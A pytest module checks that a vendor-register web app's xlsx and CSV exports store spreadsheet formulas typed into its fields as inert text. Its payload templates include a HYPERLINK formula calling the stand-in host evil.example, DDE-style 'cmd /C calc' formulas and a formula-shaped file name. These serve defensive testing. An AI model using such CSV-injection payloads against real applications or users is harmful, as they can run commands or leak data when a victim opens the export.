"""Every export, with spreadsheet formulas typed into every text that reaches it.

A cell is injected when a spreadsheet would run it: an xlsx cell stored as a formula, or a CSV
field starting with = + - @ tab or CR. Each text below carries a tag (`fx01`, …) so the test
knows which field reached which export, proves it arrived, and that it arrived as inert text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
import yaml
from openpyxl import load_workbook
from sqlmodel import Session, select

from app.models import Answer, BusinessFunction, Contract, Questionnaire
from tests.evidence.multipart import CONTENT_TYPE, multipart
from tests.evidence.samples import pdf_bytes
from tests.factories import SMALL_QUESTIONNAIRE
from tests.security.hostile import is_inert

TAG = re.compile(r"fx\d\d")
TEMPLATES = (
    '=HYPERLINK("http://evil.example/?{t}","Open")',
    "+cmd|' /C calc {t}'!A0",
    "@SUM(1+1)*cmd|' /C {t}'!A0",
    "-1+1 {t}",
    "=1+1 {t}",
    "\t=2+2 {t}",
    "\r=3+3 {t}",
)


class Payloads:
    """One formula per field, each with its own tag."""

    def __init__(self) -> None:
        self.tags: dict[str, str] = {}

    def __call__(self, field: str) -> str:
        tag = f"fx{len(self.tags) + 1:02d}"
        self.tags[field] = tag
        return TEMPLATES[len(self.tags) % len(TEMPLATES)].format(t=tag)

    def tag(self, field: str) -> str:
        return self.tags[field]


def xlsx_cells(data: bytes) -> list[tuple[str, object, str]]:
    """(where, value, data type) of every cell of every sheet."""
    workbook = load_workbook(io.BytesIO(data))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def csv_cells(name: str, data: bytes) -> list[tuple[str, object, str]]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [
        (f"{name}:{r}:{c}", value, "s")
        for r, row in enumerate(rows, start=1)
        for c, value in enumerate(row, start=1)
    ]


def zip_csv_cells(data: bytes) -> list[tuple[str, object, str]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [
        cell
        for name in archive.namelist()
        if name.endswith(".csv")
        for cell in csv_cells(name, archive.read(name))
    ]


def injected_tags(where: str, cells: list[tuple[str, object, str]]) -> set[str]:
    """The tags found; fails on the first one a spreadsheet would evaluate."""
    found: set[str] = set()
    for ref, value, kind in cells:
        tags = TAG.findall(str(value))
        if not tags:
            continue
        found |= set(tags)
        assert kind != "f", f"{where} {ref} is a formula: {value!r}"
        assert is_inert(value), f"{where} {ref} starts like a formula: {value!r}"
    return found


@pytest.fixture
def injected(signed_in, site, engine):
    """A vendor, its arrangement, supply chain, contacts, AI system, function, finding,
    treatment, answers, evidence and an uploaded questionnaire, every text a formula."""
    p = Payloads()
    buyer = signed_in(site.procurement)

    def ok(response):
        assert response.status_code in (200, 303), response.text[-1500:]
        return response

    ok(
        buyer.post(
            "/vendors/functions",
            data={
                "code": "F1",
                "name": p("function name"),
                "critical": "yes",
                "criticality_reasons": p("criticality reasons"),
            },
            follow_redirects=False,
        )
    )
    with Session(engine) as session:
        function_id = str(session.exec(select(BusinessFunction)).one().id)
    vendor = site.vendor.id
    ok(
        buyer.post(
            f"/vendors/{vendor}",
            data={
                "legal_name": p("legal name"),
                "identifier_type": "CRN",
                "identifier": p("identifier"),
                "hq_country": "DE",
                "parent_name": p("parent name"),
                "description": p("description"),
                "cloud_providers": p("cloud provider"),
                "status": "active",
                "version": "1",
            },
            follow_redirects=False,
        )
    )
    ok(
        buyer.post(
            f"/vendors/{vendor}/contracts",
            data={
                "reference": p("contract reference"),
                "description": p("contract description"),
                "alternatives": p("alternatives"),
                "ict_service_type": "S01",
                "start_date": "2024-01-01",
                "function_id": function_id,
            },
            follow_redirects=False,
        )
    )
    with Session(engine) as session:
        contract = session.exec(select(Contract).where(Contract.vendor_id == vendor)).one()
    ok(
        buyer.post(
            f"/vendors/{vendor}/contracts/{contract.id}/subcontractors",
            data={
                "name": p("subcontractor"),
                "identifier_type": "CRN",
                "identifier": p("subcontractor id"),
                "what": p("subcontracted"),
                "rank": "2",
            },
            follow_redirects=False,
        )
    )
    ok(
        buyer.post(
            f"/vendors/{vendor}/contacts",
            data={
                "name": p("contact name"),
                "email": "c@vendor.example",
                "title": p("contact title"),
            },
            follow_redirects=False,
        )
    )
    ok(
        buyer.post(
            f"/vendors/{vendor}/ai-systems",
            data={
                "name": p("AI system"),
                "purpose": p("purpose"),
                "model_provider": p("model provider"),
                "contract_id": str(contract.id),
            },
            follow_redirects=False,
        )
    )
    questionnaire = {
        **SMALL_QUESTIONNAIRE,
        "key": "formulas",
        "title": p("questionnaire title"),
    }
    questionnaire["sections"] = [
        {
            **SMALL_QUESTIONNAIRE["sections"][0],
            "title": p("section title"),
            "questions": [
                {**q, "text": p(f"question {q['key']}")} for q in SMALL_QUESTIONNAIRE["sections"][0]["questions"]
            ],
        }
    ]  # fmt: skip
    ok(
        buyer.post(
            "/questionnaires/upload",
            files={"file": ("q.yaml", yaml.safe_dump(questionnaire).encode())},
            follow_redirects=False,
        )
    )
    with Session(engine) as session:
        uploaded = session.exec(select(Questionnaire).where(Questionnaire.key == "formulas")).one()
    sent = ok(
        buyer.post(
            "/assessments/new",
            data={
                "questionnaire_id": str(uploaded.id),
                "due_date": "2099-01-31",
                "vendor_ids": [str(vendor)],
                "message": p("message"),
                "name": p("campaign"),
            },
            follow_redirects=False,
        )
    )
    assessment = int(sent.headers["location"].rsplit("/", 1)[1])
    contact = signed_in(site.contact)
    ok(
        contact.post(
            f"/portal/assessments/{assessment}/answers/gov.notes",
            data={"value": p("answer"), "comment": p("answer comment"), "version": "0"},
            follow_redirects=False,
        )
    )
    ok(
        contact.post(
            f"/vendors/{vendor}/evidence",
            content=multipart(
                [("title", p("evidence title")), ("file", ("=1+1 fx99.pdf", pdf_bytes()))]
            ),
            headers={"Content-Type": CONTENT_TYPE},
            follow_redirects=False,
        )
    )
    analyst = signed_in(site.analyst)
    ok(
        analyst.post(
            "/register/findings",
            data={
                "vendor_id": str(vendor),
                "severity": "high",
                "framework": "iso42001",
                "title": p("finding title"),
                "description": p("finding description"),
            },
            follow_redirects=False,
        )
    )
    ok(
        analyst.post(
            f"/register/vendors/{vendor}/treatment",
            data={"treatment": "mitigate", "justification": p("justification")},
            follow_redirects=False,
        )
    )
    return p, uploaded.id, assessment


def _get(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, f"{url}: {response.status_code} {response.text[-800:]}"
    return response.content


def test_the_register_workbooks_hold_formulas_as_text(injected, signed_in, site):
    p, _, _ = injected
    analyst = signed_in(site.analyst)
    for url in ("/register/export.xlsx", "/api/v1/register.xlsx"):
        found = injected_tags(url, xlsx_cells(_get(analyst, url)))
        for field in ("legal name", "finding title", "AI system", "justification"):
            assert p.tag(field) in found, f"{field} is not in {url}"


def test_the_register_of_information_holds_formulas_as_text(injected, signed_in, site):
    p, _, _ = injected
    analyst = signed_in(site.analyst)
    workbook = injected_tags("roi.xlsx", xlsx_cells(_get(analyst, "/register/roi.xlsx?draft=1")))
    # The regulatory package carries text exactly as typed (the validator checks it instead): a
    # supervisor's portal reads data, not formulas, and an escaped value would be a misstatement.
    cells = zip_csv_cells(_get(analyst, "/register/roi.zip?draft=1"))
    package = {tag for _, value, _ in cells for tag in TAG.findall(str(value))}
    assert not [v for _, v, _ in cells if TAG.search(str(v)) and str(v).startswith("'")]
    fields = ("legal name", "identifier", "contract reference", "function name", "subcontractor")
    for field in fields:
        assert p.tag(field) in workbook, f"{field} is not in the RoI workbook"
        assert p.tag(field) in package, f"{field} is not in the RoI package"


def test_the_audit_exports_hold_formulas_as_text(injected, signed_in, site):
    p, _, _ = injected
    auditor = signed_in(site.auditor)
    workbook = injected_tags("audit.xlsx", xlsx_cells(_get(auditor, "/audit/export.xlsx")))
    text = injected_tags("audit.csv", csv_cells("audit.csv", _get(auditor, "/audit/export.csv")))
    for field in ("legal name", "answer", "finding title", "justification"):
        assert p.tag(field) in workbook and p.tag(field) in text, field


def test_the_answer_workbook_holds_formulas_as_text(injected, signed_in, site):
    p, _, assessment = injected
    contact = signed_in(site.contact)
    url = f"/portal/assessments/{assessment}/export.xlsx"
    found = injected_tags(url, xlsx_cells(_get(contact, url)))
    for field in ("answer", "answer comment", "section title", "question gov.notes"):
        assert p.tag(field) in found, field


def test_the_questionnaire_workbooks_hold_formulas_as_text(injected, signed_in, site):
    p, questionnaire, _ = injected
    buyer = signed_in(site.procurement)
    definition = injected_tags(
        "definition.xlsx",
        xlsx_cells(_get(buyer, f"/questionnaires/{questionnaire}/definition.xlsx")),
    )
    for field in ("questionnaire title", "section title", "question gov.policy"):
        assert p.tag(field) in definition, field


def test_an_evidence_file_named_like_a_formula_is_listed_as_text(injected, signed_in, site):
    analyst = signed_in(site.analyst)
    found = injected_tags("register", xlsx_cells(_get(analyst, "/register/export.xlsx")))
    assert "fx99" in found


def test_a_workbook_round_trip_keeps_formula_answers_as_text(injected, signed_in, site, engine):
    """Export, import the same file back: the formula answer stays the text it was."""
    p, _, assessment = injected
    with Session(engine) as session:
        before = session.exec(select(Answer)).one().value
    assert p.tag("answer") in before and not is_inert(before)  # stored exactly as typed
    contact = signed_in(site.contact)
    exported = _get(contact, f"/portal/assessments/{assessment}/export.xlsx")
    preview = contact.post(
        f"/portal/assessments/{assessment}/import", files={"workbook": ("a.xlsx", exported)}
    )
    assert "The workbook holds no changes." in preview.text
    with Session(engine) as session:
        assert session.exec(select(Answer)).one().value == before
